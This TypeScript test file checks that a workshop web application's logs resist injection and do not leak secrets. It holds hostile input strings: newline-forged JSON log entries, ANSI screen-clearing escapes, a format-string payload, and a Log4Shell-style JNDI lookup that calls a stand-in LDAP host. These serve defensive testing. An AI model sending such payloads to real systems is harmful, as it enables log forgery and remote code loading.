import { afterAll, beforeAll, expect, test } from 'vitest';
import { facilitator, makeWorkshop, seat } from '../../src/facilitator.ts';
import { rawRequest } from '../../src/raw-request.ts';
import { ServerProcess } from '../../src/server-process.ts';
import { Visitor } from '../../src/visitor.ts';

// A server of its own that tells all it has to tell.
let server: ServerProcess;
beforeAll(async () => {
  server = await ServerProcess.start({ LOG_LEVEL: 'debug', TRUSTED_PROXIES: '1' });
});
afterAll(() => server.destroy());

/** What would look like an entry of its own, clear the screen of whoever reads it, or name a file to be loaded (CVE-2021-44228). */
const forged = '{"level":60,"msg":"VÄÄRENNETTY"}';
const hostile = [
  `\n${forged}\n`,
  `\r\n${forged}`,
  '\u001b[2J\u001b[31mVÄÄRENNETTY',
  '${jndi:ldap://muualla.example/VÄÄRENNETTY}',
  '%s%n%d VÄÄRENNETTY',
];

test('nothing that is asked for, typed or sent writes a line of its own', async () => {
  const before = server.printed.length;
  const desk = await facilitator(server.url);
  const { id, code } = await makeWorkshop(desk);
  for (const text of hostile) {
    const encoded = encodeURIComponent(text);
    const visitor = new Visitor(server.url);
    await visitor.ask('GET', `/${encoded}`);
    await visitor.ask('GET', `/api/v1/stories/${encoded}`);
    await visitor.ask('GET', `/tarinat?q=${encoded}`);
    await visitor.ask('GET', `/photos/${encoded}/480.webp`);
    await visitor.ask('POST', '/api/v1/session', { email: text, password: text });
    await visitor.ask('POST', '/api/v1/session', `{"${text}`, { 'content-type': 'application/json' });
    await visitor.ask('POST', `/api/v1/workshops/${code}/participants`, { name: text });
    await desk.ask('POST', '/api/v1/workshops', { title: text, municipality: text });
    await desk.ask('GET', `/api/v1/workshops/${encoded}/export/json`);
    await desk.ask('POST', '/desk/account?/change', new URLSearchParams({ name: text, locale: text }));
    await rawRequest(server.port, [
      `GET /api/auth/callback/${encoded}?error=${encoded} HTTP/1.1`,
      `Host: 127.0.0.1:${server.port}`,
      `User-Agent: ${forged}`,
      `X-Forwarded-For: ${forged}`,
      `Referer: http://muualla.example/${encoded}`,
    ]);
    await rawRequest(server.port, [
      `GET /collab/${encoded} HTTP/1.1`,
      `Host: 127.0.0.1:${server.port}`,
      'Upgrade: websocket',
      'Connection: Upgrade',
    ]);
  }
  const joined = await seat(server.url, code, { name: 'Aino' });
  await joined.phone.ask('GET', `/api/v1/drafts/${joined.draftId}`);
  await desk.ask('DELETE', '/api/v1/session');

  const said = server.printed.slice(before);
  for (const line of said.split('\n').filter(Boolean)) {
    const entry = JSON.parse(line) as { msg?: string };
    expect(entry.msg ?? '').not.toContain('VÄÄRENNETTY');
  }
  // eslint-disable-next-line no-control-regex -- what a terminal would take for a command is what is looked for
  expect(said).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
  // Nor is there anything that tells who came, or opens anything.
  const secrets = [
    ...joined.phone.cookies.values(),
    ...desk.cookies.values(),
    '198.18.',
    'rohkea-harjoitus',
    'Aino',
    code,
    id,
  ];
  for (const secret of secrets) expect(said).not.toContain(secret);
});
